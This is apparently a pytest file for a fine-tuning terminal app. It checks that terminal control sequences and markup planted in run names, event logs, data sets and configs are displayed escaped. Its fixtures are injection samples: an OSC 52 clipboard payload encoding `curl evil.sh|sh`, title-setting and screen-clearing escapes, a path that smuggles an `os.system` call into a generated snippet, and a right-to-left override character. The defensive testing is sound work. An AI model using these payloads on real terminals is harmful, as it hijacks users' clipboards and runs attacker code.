"""Text from files never reaches the terminal as control sequences (security review B, finding 5).

Whoever can write a run folder, its events.jsonl, a data set or a config chooses what the CLI and
the app show from it. ESC and CSI (0x9b) sequences there would set the window title, clear the
screen or write the clipboard (OSC 52); Rich markup there would be drawn as styles or links. Every
test builds such files, shows them through the real command or app, and checks that no ESC or CSI
comes out while the name stays recognisable (sft_tui.format.safe escapes it as `\\x1b`)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml

from core.events import EvalResult, JsonlSink, LogMessage, RunFailed, RunStarted, SampleGenerated
from sft_tui.app import create_app
from sft_tui.cli import main
from sft_tui.format.safe import safe_text
from sft_tui.screens.dialogs import ErrorDialog
from helpers import settle, visible_text
from test_app_runs import draft_over, open_runs, write_fake_run

TITLE = "ok\x1b]0;HACKED\x1b\\\x1b[2J"
"""Sets the terminal's title, then clears the screen."""
TITLE_SHOWN = "ok\\x1b]0;HACKED\\x1b\\\\x1b[2J"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNofHNoCg==\x07"
"""OSC 52: the clipboard becomes `curl evil.sh|sh`."""
CSI = "\x9b2J"
"""The 8-bit CSI: the same screen clear in one byte."""
MARKUP = "[bold]loud"
"""Markup Rich would read from a str: the tag would vanish, the rest turn bold."""


def crafted_run(runs: Path, name: str, lr: float, **kwargs) -> Path:
    """A synthetic run in a folder named `name`, which a config's run_name could not be (a backslash):
    renamed, as anyone who can write the runs folder can."""
    return write_fake_run(runs, "plain", lr, **kwargs).rename(runs / name)


def assert_inert(text: str) -> None:
    assert "\x1b" not in text and "\x9b" not in text and "\x07" not in text, repr(text)


def test_safe_text_escapes_control_characters_and_keeps_lines():
    assert safe_text(TITLE) == TITLE_SHOWN
    assert safe_text(f"a{CSI}\tb\nc\r") == "a\\x9b2J\tb\nc\\r"
    assert safe_text("a\nb", one_line=True) == "a\\nb"
    assert safe_text("run-1 · ✓ naïve") == "run-1 · ✓ naïve"  # printable text as it was
    assert safe_text(42) == "42"  # an events.jsonl may hold a number where a name belongs


def test_sft_tui_runs_shows_a_crafted_run_name_escaped(tmp_path, monkeypatch, capsys):
    runs = tmp_path / "runs"
    crafted_run(runs, TITLE, 1e-3)
    crafted_run(runs, MARKUP, 1e-3)
    monkeypatch.setenv("COLUMNS", "200")
    assert main(["runs", "--runs-dir", str(runs)]) == 0
    out = capsys.readouterr().out
    assert_inert(out)
    assert TITLE_SHOWN in out and MARKUP in out


def test_sft_tui_runs_stacked_at_80_columns_is_escaped_too(tmp_path, monkeypatch, capsys):
    crafted_run(tmp_path / "runs", f"20261204-165642-{TITLE}-a-long-model-name-to-stack{CSI}", 1e-3)
    monkeypatch.setenv("COLUMNS", "80")
    assert main(["runs", "--runs-dir", str(tmp_path / "runs")]) == 0
    out = capsys.readouterr().out
    assert_inert(out)
    assert TITLE_SHOWN in out and "\\x9b2J" in out


def crafted_failed_run(runs: Path) -> Path:
    """A run that failed, whose events carry escapes and markup in every kind of text."""
    root = write_fake_run(runs, "crafted", 1e-3, end=None, steps=10)
    sink = JsonlSink(root / "events.jsonl")
    sink.emit(RunStarted(run_id=TITLE, run_dir=str(root), task="causal-lm", model=f"tiny{CSI}{MARKUP}",
                         config_digest="0", total_params=10, trainable_params=10, planned_steps=10,
                         steps_per_epoch=10, train_rows=8, validation_rows=2, device="cpu", precision="fp32",
                         time=0.0))
    sink.emit(EvalResult(step=10, epoch=1.0, metrics={f"acc{TITLE}": 0.5, MARKUP: 0.25}, is_best=True,
                         seconds=0.1, time=1.0))
    sink.emit(SampleGenerated(step=10, prompt=f"say{TITLE}", output=f"said{CSI}", reference=CLIPBOARD, time=1.2))
    sink.emit(LogMessage(level="warning", logger="datasets", message=f"column {TITLE}", time=1.5))
    sink.emit(RunFailed(step=10, message=f"paste this{CLIPBOARD}", hint=f"see {TITLE}", log_file=None,
                        last_checkpoint=None, time=2.0))
    sink.close()
    return root


def test_attach_plain_shows_crafted_events_escaped(tmp_path, monkeypatch, capsys):
    monkeypatch.delenv("FORCE_COLOR", raising=False)
    root = crafted_failed_run(tmp_path / "runs")
    assert main(["attach", "--plain", str(root)]) == 1
    captured = capsys.readouterr()
    assert_inert(captured.out + captured.err)
    assert TITLE_SHOWN in captured.err and "paste this\\x1b]52;c;" in captured.err
    assert MARKUP in captured.err  # a metric's name and the model's as written, not read as markup


def test_a_refused_command_prints_the_crafted_path_escaped(tmp_path, capsys):
    folder = tmp_path / TITLE
    folder.mkdir()
    assert main(["attach", str(folder)]) == 2
    err = capsys.readouterr().err
    assert_inert(err)
    assert "error: " in err and TITLE_SHOWN in err


async def test_runs_screen_shows_crafted_run_names_escaped(tmp_path):
    runs = tmp_path / "runs"
    crafted_run(runs, TITLE, 3e-3)
    crafted_run(runs, MARKUP, 1e-3, end="stopped")
    draft = draft_over(runs)
    app = create_app(draft)
    async with app.run_test(size=(160, 40)) as pilot:
        screen = await open_runs(pilot)
        await pilot.press("space", "down", "space")  # both marked: the legend and the config diff name them
        await pilot.pause()
        text = visible_text(app)
        assert_inert(text)
        assert TITLE_SHOWN in text and text.count(MARKUP) >= 2, text
        app.notify(f"run {TITLE} is not training", title=TITLE, markup=False)
        await pilot.pause()
        assert_inert(visible_text(app))
        assert screen.table.row_count == 2


async def test_train_screen_log_and_error_dialog_show_a_crafted_failure_escaped(tmp_path):
    root = crafted_failed_run(tmp_path / "runs")
    app = create_app(root / "config.yaml", attach=root)
    async with app.run_test(size=(160, 50)) as pilot:
        await settle(pilot)
        text = visible_text(app)
        assert_inert(text)
        assert "paste this\\x1b]52;c;" in text, text  # the log pane's last line
        assert f"say{TITLE_SHOWN}" in text and "said\\x9b2J" in text, text  # the samples pane
        failed = RunFailed(step=10, message=f"paste this{CLIPBOARD}", hint=f"see {TITLE}", log_file=None,
                           last_checkpoint=f"{root}/checkpoints/{CSI}", time=2.0)
        app.push_screen(ErrorDialog.for_run_failed(failed))
        await pilot.pause()
        text = visible_text(app)
        assert_inert(text)
        assert f"hint: see {TITLE_SHOWN}" in text and "\\x9b2J" in text, text


def data_config(tmp_path: Path, model: Path, rows: list[dict]) -> Path:
    train = tmp_path / "train.jsonl"
    train.write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    config = tmp_path / "run.yaml"
    config.write_text(yaml.safe_dump({"task": "causal-lm", "eval": {"metric": "loss"},
                                      "model": {"name_or_path": str(model)},
                                      "data": {"train": str(train), "max_length": 64}}), encoding="utf-8")
    return config


@pytest.mark.parametrize(("rows", "state", "shown"), [
    ([{"prompt": f"Question {i}{TITLE}?", "completion": f" answer{CSI} {i}."} for i in range(20)], "ready",
     "\\x1b]0;HACKED"),  # the preview's cells and the highlighted row in full
    ([{TITLE: f"text {i}", "lab": "x"} for i in range(20)], "failed", TITLE_SHOWN),  # the load names the columns
], ids=["cells", "column-name"])
async def test_data_screen_shows_crafted_data_escaped(rows, state, shown, tmp_path, tiny_model_factory):
    app = create_app(data_config(tmp_path, tiny_model_factory("gpt2"), rows))
    async with app.run_test(size=(160, 50)) as pilot:
        await pilot.press("escape", "2")
        await settle(pilot)
        assert app.data_state == state
        text = visible_text(app)
        assert_inert(text)
        assert shown in text, text


def test_a_config_with_a_control_character_is_refused_before_the_app_shows_it(tmp_path, capsys):
    """The app's input boxes show a config's paths as they are: a crafted model name reached the
    terminal through the model step's path box. Such a config is refused, its message escaped."""
    config = tmp_path / "run.yaml"  # YAML's "\\e" is an ESC: a config string can carry one
    config.write_text('task: causal-lm\nmodel: {name_or_path: "/nowhere/m\\e]0;HACKED\\e\\\\\\e[2J"}\n',
                      encoding="utf-8")
    assert main([str(config)]) == 2
    err = capsys.readouterr().err
    assert_inert(err)
    assert "model.name_or_path: holds a control character" in " ".join(err.split())


def test_the_load_snippet_quotes_a_crafted_path_as_python_reads_it():
    """The path comes from events.jsonl: `x")\nimport os; os.system("...")\n("` put lines of its own in
    what the copy key puts on the clipboard, under a panel line showing only the harmless last one."""
    import ast

    from sft_tui.format.train import load_snippet

    path = 'runs/x")\nimport os; os.system("touch pwned")\n("'
    for task in ("classification", "causal-lm"):
        tree = ast.parse(load_snippet(task, path))
        assert [type(node).__name__ for node in tree.body] == ["ImportFrom", "Expr"]  # no statement smuggled in
        assert any(isinstance(node, ast.Constant) and node.value == path for node in ast.walk(tree))


def test_direction_marks_and_invisible_characters_are_shown_too():
    """A run or model name with U+202E read backwards, in the question before a model's code runs too."""
    assert safe_text("model\u202eelif.py\u200b") == "model\\u202eelif.py\\u200b"


async def test_no_notification_reads_markup_from_a_file(tmp_path):
    app = create_app()
    async with app.run_test(size=(120, 40), notifications=True) as pilot:
        app.screen.notify("run [link=https://example.com]x[/link] [bold]y")  # a widget's default is markup
        await pilot.pause()
        assert any(n.message == "run [link=https://example.com]x[/link] [bold]y" and not n.markup
                   for n in app._notifications)
